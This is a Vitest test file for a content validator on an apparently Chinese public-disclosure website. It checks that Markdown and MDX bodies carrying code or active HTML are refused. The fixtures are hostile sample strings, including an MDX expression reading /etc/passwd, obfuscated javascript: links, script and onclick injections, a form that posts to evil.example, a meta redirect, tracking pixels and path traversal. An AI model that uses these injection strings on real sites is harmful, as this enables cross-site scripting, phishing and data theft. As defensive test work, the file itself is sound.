/**
 * Content never runs code (CONTENT.md): one fixture per way of putting code, active HTML or a
 * third-party request into a body, each refused with its code, its line and column and a
 * Chinese message with an English gloss. The fixtures are strings: nothing here is a content root.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { mdxToJs, markdownToHtml } from 'satteri';
import { checkBodyFile } from '../../src/lib/checks/bodies';
import { isCommentOnly } from '../../src/lib/markdown/body-rules';
import { linkFinding, resourceFinding } from '../../src/lib/markdown/html-policy';
import { validateContentRoot } from '../../src/lib/checks/validate';
import { contentRootWith } from '../helpers/content';
import { TODAY } from '../today';

const FRONT = ['---', 'title: 测试', 'publishedOn: 2026-11-01', '---', ''];
/** The body starts on line 6 of the file. */
const file = (...body: string[]) => [...FRONT, ...body, ''].join('\n');

function check(text: string, docPath: string) {
  return checkBodyFile(text, docPath, `content/${docPath}`);
}

interface Case {
  what: string;
  doc: string;
  text: string;
  code: string;
  line: number;
  column?: number;
  zh: string;
  en: string;
}

const cases: Case[] = [
  {
    what: 'an import of node:fs',
    doc: 'plans/x.mdx',
    text: file('正文', '', "import fs from 'node:fs'"),
    code: 'mdx/import',
    line: 8,
    column: 1,
    zh: '正文里不能写 import',
    en: 'no import in a body',
  },
  {
    what: 'an export',
    doc: 'legal/x.mdx',
    text: file('export const key = process.env.DEPLOY_KEY'),
    code: 'mdx/export',
    line: 6,
    zh: '正文里不能写 export',
    en: 'no export in a body',
  },
  {
    what: 'an expression in text',
    doc: 'plans/x.mdx',
    text: file('## 一、目标', '', '构建机器：{process.env.HOME}'),
    code: 'mdx/expression',
    line: 8,
    column: 6,
    zh: '正文里不能写 {…} 表达式（“{process.env.HOME}”）',
    en: 'no {…} expression in a body',
  },
  {
    what: 'an expression on a line of its own',
    doc: 'plans/x.mdx',
    text: file('{require("fs").readFileSync("/etc/passwd", "utf8")}'),
    code: 'mdx/expression',
    line: 6,
    zh: '正文里不能写 {…} 表达式',
    en: 'runs a program on the machine that builds the site',
  },
  {
    what: 'an expression attribute',
    doc: 'legal/x.mdx',
    text: file('见 <LawCite name={process.env.HOME} article={2} />。'),
    code: 'mdx/attribute-expression',
    line: 6,
    column: 3,
    zh: '<LawCite> 的属性 name={process.env.HOME} 不是字面值',
    en: 'is not a literal',
  },
  {
    what: 'a spread attribute',
    doc: 'legal/x.mdx',
    text: file('', '<Case title="t" {...globalThis}>', '', '案情', '', '</Case>'),
    code: 'mdx/spread',
    line: 7,
    zh: '<Case> 上不能写 {...globalThis}',
    en: 'no {...globalThis} on <Case>',
  },
  {
    what: 'an unknown component',
    doc: 'legal/x.mdx',
    text: file('正文', '', '<Lawcite name="中华人民共和国民法典" />'),
    code: 'mdx/unknown-component',
    line: 8,
    zh: '没有名为 <Lawcite> 的组件',
    en: 'there is no component <Lawcite>',
  },
  {
    what: 'a component in a plan, which is rendered without any',
    doc: 'plans/x.mdx',
    text: file('<Term def="d">t</Term>'),
    code: 'mdx/unknown-component',
    line: 6,
    zh: '没有名为 <Term> 的组件',
    en: 'there is no component <Term>',
  },
  {
    what: 'a directive on a component (client:load would ship a script)',
    doc: 'legal/x.mdx',
    text: file('<LawCite name="中华人民共和国民法典" client:load />'),
    code: 'mdx/attribute',
    line: 6,
    zh: '<LawCite> 没有属性 client:load',
    en: '<LawCite> takes no attribute client:load',
  },
  {
    what: 'a script element in MDX',
    doc: 'plans/x.mdx',
    text: file('正文', '', '<script>alert(1)</script>'),
    code: 'html/element',
    line: 8,
    zh: '正文里不能用 HTML 元素 <script>：它会在读者的浏览器里运行程序',
    en: 'the HTML element <script> is not allowed',
  },
  {
    what: 'a script element in Markdown',
    doc: 'disclosures/330000000001/2026-11-notice-a.md',
    text: file('公告', '', '<div>', '<p>说明</p>', '<script src="/x.js"></script>', '</div>'),
    code: 'html/element',
    line: 10,
    column: 1,
    zh: '<script>',
    en: 'runs a program',
  },
  {
    what: 'onclick in Markdown',
    doc: 'plans/x.md',
    text: file('点<b onclick="alert(1)">这里</b>'),
    code: 'html/attribute',
    line: 6,
    column: 2,
    zh: '<b> 上的事件属性 onclick 会在读者的浏览器里运行程序',
    en: 'the event attribute onclick on <b>',
  },
  {
    what: 'onClick in MDX',
    doc: 'plans/x.mdx',
    text: file('点<span onClick="alert(1)">这里</span>'),
    code: 'html/attribute',
    line: 6,
    zh: '事件属性 onClick',
    en: 'event attribute onClick',
  },
  {
    what: 'a javascript: Markdown link',
    doc: 'plans/x.md',
    text: file('[办事指南](javascript:alert(1))'),
    code: 'html/url',
    line: 6,
    column: 1,
    zh: '链接地址以 javascript: 开头，不允许',
    en: 'a link address starting with javascript: is not allowed',
  },
  {
    what: 'jav&#x61;script: in a raw link',
    doc: 'plans/x.md',
    text: file('请点击 <a href="jav&#x61;script:alert(1)">这里</a>'),
    code: 'html/url',
    line: 6,
    column: 5,
    zh: '链接地址以 javascript: 开头',
    en: 'starting with javascript:',
  },
  {
    what: 'jav&#x61;script: in an MDX link',
    doc: 'legal/x.mdx',
    text: file('请点击 <a href="jav&#x61;script:alert(1)">这里</a>'),
    code: 'html/url',
    line: 6,
    zh: '链接地址以 javascript: 开头',
    en: 'starting with javascript:',
  },
  {
    what: 'JaVaScRiPt: in a Markdown link',
    doc: 'plans/x.mdx',
    text: file('', '[链接](JaVaScRiPt:alert(1))'),
    code: 'html/url',
    line: 7,
    zh: 'javascript:',
    en: 'javascript:',
  },
  {
    what: 'a javascript: reference definition',
    doc: 'plans/x.md',
    text: file('[指南][g]', '', '[g]: java&#x09;script:alert(1)'),
    code: 'html/url',
    line: 8,
    zh: '链接地址以 javascript: 开头',
    en: 'javascript:',
  },
  {
    what: 'an iframe',
    doc: 'plans/x.md',
    text: file('', '<iframe src="https://evil.example/"></iframe>'),
    code: 'html/element',
    line: 7,
    zh: '<iframe>：它会把别的网页或插件嵌进页面',
    en: 'it embeds another page or a plug-in',
  },
  {
    what: 'an external stylesheet',
    doc: 'legal/x.md',
    text: file('<link rel="stylesheet" href="https://evil.example/x.css">', '', '正文'),
    code: 'html/element',
    line: 6,
    zh: '<link>：它会改变整个页面的样式，或从别的网站加载文件',
    en: 'restyles the whole page or loads files from another site',
  },
  {
    what: 'a form',
    doc: 'plans/x.mdx',
    text: file('<form action="https://evil.example/collect">', '<input name="id" />', '</form>'),
    code: 'html/element',
    line: 6,
    zh: '<form>：它会让读者在页面上填写并提交信息',
    en: 'lets readers type in and send information',
  },
  {
    what: 'a meta refresh to another site',
    doc: 'plans/x.md',
    text: file('<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
    code: 'html/element',
    line: 6,
    zh: '<meta>：它会改变整个页面的行为（如自动跳转到别的网站',
    en: 'redirects to another site',
  },
  {
    what: 'a base element',
    doc: 'plans/x.md',
    text: file('正文', '', '<base href="https://evil.example/">'),
    code: 'html/element',
    line: 8,
    zh: '<base>',
    en: 're-bases every link',
  },
  {
    what: 'an SVG with a script',
    doc: 'plans/x.md',
    text: file('<svg>', '<script>alert(1)</script>', '</svg>'),
    code: 'html/element',
    line: 6,
    zh: '<svg>：它可以带脚本和外部资源',
    en: 'it can carry scripts',
  },
  {
    what: 'a style attribute',
    doc: 'plans/x.md',
    text: file('<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">此页已作废</p>'),
    code: 'html/attribute',
    line: 6,
    zh: '<p> 上不能写 style 属性',
    en: 'no style attribute on <p>',
  },
  {
    what: 'an external image in Markdown',
    doc: 'plans/x.md',
    text: file('![示意图](https://tracker.example/pixel.png)'),
    code: 'html/url',
    line: 6,
    zh: '图片来自本站以外（tracker.example）',
    en: 'the image comes from outside this site (tracker.example)',
  },
  {
    what: 'a protocol-relative image in HTML',
    doc: 'plans/x.md',
    text: file('<img src="//tracker.example/p.gif" alt="">'),
    code: 'html/url',
    line: 6,
    zh: '图片来自本站以外（tracker.example）',
    en: 'outside this site',
  },
  {
    what: 'an external image through a reference',
    doc: 'plans/x.md',
    text: file('![图][p]', '', '[p]: https://tracker.example/p.png'),
    code: 'html/url',
    line: 6,
    zh: '图片来自本站以外',
    en: 'outside this site',
  },
  {
    what: 'a data: image',
    doc: 'plans/x.mdx',
    text: file('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="" />'),
    code: 'html/url',
    line: 6,
    zh: '图片地址以 data: 开头，不允许',
    en: 'an image address starting with data: is not allowed',
  },
  {
    what: 'a module imported as an image',
    doc: 'plans/x.mdx',
    text: file('![x](./payload.mjs)'),
    code: 'html/url',
    line: 6,
    zh: '内容目录里的图片只能是 png、jpg、gif、webp 或 avif 文件',
    en: 'must be a png, jpg, gif, webp or avif file',
  },
  {
    what: 'an image outside the content root',
    doc: 'plans/x.md',
    text: file('![x](../../secret.png)'),
    code: 'html/url',
    line: 6,
    zh: '图片地址指到了内容目录以外',
    en: 'points outside the content root',
  },
  {
    what: 'a layout in the frontmatter',
    doc: 'plans/x.mdx',
    text: ['---', 'title: 测试', 'layout: ../../src/evil.astro', '---', '', '正文', ''].join('\n'),
    code: 'mdx/layout',
    line: 3,
    zh: '元数据里不能写 layout',
    en: 'no layout in the frontmatter',
  },
  {
    what: 'a layout key spelled with a YAML escape',
    doc: 'notes/x.mdx',
    text: ['---', 'title: 测试', '"\\x6cayout": ./evil.mjs', '---', '', '正文', ''].join('\n'),
    code: 'mdx/layout',
    line: 3,
    zh: '元数据里不能写 layout',
    en: 'no layout in the frontmatter',
  },
  {
    what: 'a component in a .md file',
    doc: 'legal/x.md',
    text: file('<Term def="d">t</Term>'),
    code: 'mdx/component-in-md',
    line: 6,
    zh: '.md 文件不能使用组件 <Term>',
    en: 'a .md file cannot use the component <Term>',
  },
  {
    what: 'MDX that cannot be parsed',
    doc: 'plans/x.mdx',
    text: file('正文', '', '<!-- 注释 -->'),
    code: 'mdx/syntax',
    line: 8,
    column: 1,
    zh: 'MDX 写法有误，无法读取',
    en: 'the MDX cannot be parsed',
  },
];

describe('body rules: each way in is refused at its line, in Chinese and English', () => {
  for (const c of cases) {
    it(`refuses ${c.what}`, () => {
      const problems = check(c.text, c.doc);
      expect(problems.map((p) => p.code)).toEqual([c.code]);
      const [p] = problems;
      expect(p!.file).toBe(`content/${c.doc}`);
      expect(p!.line).toBe(c.line);
      if (c.column !== undefined) expect(p!.column).toBe(c.column);
      expect(p!.what.zh).toContain(c.zh);
      expect(p!.what.en).toContain(c.en);
      expect(p!.fix.zh).toMatch(/[\u4e00-\u9fff]/);
      expect(p!.fix.en).toMatch(/[a-z]{3}/);
    });
  }

  it('reports every refusal of a file, not only the first', () => {
    const text = file("import fs from 'node:fs'", '', '{fs.readFileSync("/etc/passwd")}', '', '<script>1</script>', '', '[x](javascript:1)');
    expect(check(text, 'plans/x.mdx').map((p) => [p.code, p.line])).toEqual([
      ['mdx/import', 6],
      ['mdx/expression', 8],
      ['html/element', 10],
      ['html/url', 12],
    ]);
  });
});

describe('body rules: what officials write passes', () => {
  it('accepts the components with literal attributes, comments, and harmless HTML', () => {
    const text = file(
      '{/* 审核意见：可以发布 */}',
      '',
      '<LawCite name="中华人民共和国民法典" article={1165} />规定：<Term def="释义">过错</Term>。',
      '',
      '<Case title="案例">',
      '',
      '案情<sup>1</sup>，<abbr title="人民调解委员会">调委会</abbr>。',
      '',
      '</Case>',
      '',
      '<details open><summary>原文</summary><p>第一条……</p></details>',
    );
    expect(check(text, 'legal/x.mdx')).toEqual([]);
  });

  it('accepts Markdown links, site images, tables, task lists, footnotes and raw HTML from the allowlist', () => {
    const text = file(
      '见[国家法律法规数据库](https://flk.npc.gov.cn/)、[本镇方案](/plans/x/)、[邮件](mailto:a@b.cn)、<https://www.gov.cn/>、[电话](tel:0571-12345678)。',
      '',
      '![示意图](/assets/map.png) ![附图](images/fig-1.png)',
      '',
      '| 项目 | 金额 |',
      '| :-- | --: |',
      '| 修路 | 1.00 |',
      '',
      '- [x] 已完成',
      '',
      '脚注[^1]。',
      '',
      '[^1]: 说明。',
      '',
      '<table><caption>说明</caption><tr><th scope="col" colspan="2">项目</th></tr><tr><td>修路</td><td><a href="#t1" title="任务">T1</a></td></tr></table>',
      '',
      '<!-- 内部备注，不显示 -->',
    );
    expect(check(text, 'plans/x.md')).toEqual([]);
    // MDX has no <…> autolinks nor HTML comments.
    expect(check(text.replace('<!-- 内部备注，不显示 -->', '').replace('<https://www.gov.cn/>', 'https://www.gov.cn/'), 'plans/x.mdx')).toEqual([]);
  });

  it('tells comments from code', () => {
    expect(isCommentOnly(' /* a */ // b\n')).toBe(true);
    expect(isCommentOnly('/* a */ x')).toBe(false);
    expect(isCommentOnly('/* a')).toBe(false);
    expect(isCommentOnly('/* a */ */ alert(1)')).toBe(false);
  });

  it('reads addresses as a browser does', () => {
    for (const bad of [
      'javascript:alert(1)',
      ' JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      'java\nscript:1',
      '\u0001javascript:1',
      'vbscript:x',
      'data:text/html,<script>1</script>',
      'file:///etc/passwd',
    ]) {
      expect(linkFinding(bad)?.code, JSON.stringify(bad)).toBe('html/url');
    }
    for (const ok of ['https://flk.npc.gov.cn/', '/plans/x/', '#t1', 'x/', 'mailto:a@b.cn', 'tel:12345', '?q=1']) {
      expect(linkFinding(ok), ok).toBeUndefined();
    }
    for (const bad of [
      'https://x.example/a.png',
      '//x.example/a.png',
      '\\\\x.example/a.png',
      ' //x.example/a.png',
      'http:x.example/a.png',
      './a.svg',
      'a.png?raw',
      '%2e%2e/%2e%2e/a.png',
    ]) {
      expect(resourceFinding(bad, { docPath: 'plans/x.md' })?.code, JSON.stringify(bad)).toBe('html/url');
    }
    for (const ok of ['/assets/a.svg', 'a.png', './images/a.JPG', '../plans/a.webp']) {
      expect(resourceFinding(ok, { docPath: 'legal/x.md' }), ok).toBeUndefined();
    }
  });
});

describe('body rules in the content check', () => {
  it('runs over plans, notices, legal and any other body of the root, and names the file and line', () => {
    const root = contentRootWith();
    const village = fs.readdirSync(path.join(root, 'disclosures'))[0]!;
    fs.writeFileSync(path.join(root, 'disclosures', village, '2026-11-notice-x.md'), file('<script>1</script>'));
    fs.mkdirSync(path.join(root, 'notes'));
    fs.writeFileSync(path.join(root, 'notes', 'readme.mdx'), file('{process.env.HOME}'));
    const problems = validateContentRoot(root, { SITE_TODAY: TODAY }).problems.filter((p) => /^(mdx|html)\//.test(p.code));
    expect(problems.map((p) => [path.relative(root, p.file), p.line, p.code]).sort()).toEqual([
      [`disclosures/${village}/2026-11-notice-x.md`, 6, 'html/element'],
      ['notes/readme.mdx', 6, 'mdx/expression'],
    ]);
  });
});

describe('the parser the rules read is the one that compiles', () => {
  it('sees the same nodes Sätteri compiles: an expression the check refuses is one the compiler would run', () => {
    const { code } = mdxToJs('{process.env.HOME}\n');
    expect(code).toContain('process.env.HOME');
    expect(check(file('{process.env.HOME}'), 'plans/x.mdx').map((p) => p.code)).toEqual(['mdx/expression']);
  });

  it('raw HTML in Markdown is copied into the page as written, unless refused', () => {
    const { html } = markdownToHtml('<b onclick="alert(1)">x</b>\n');
    expect(html).toContain('onclick');
  });
});
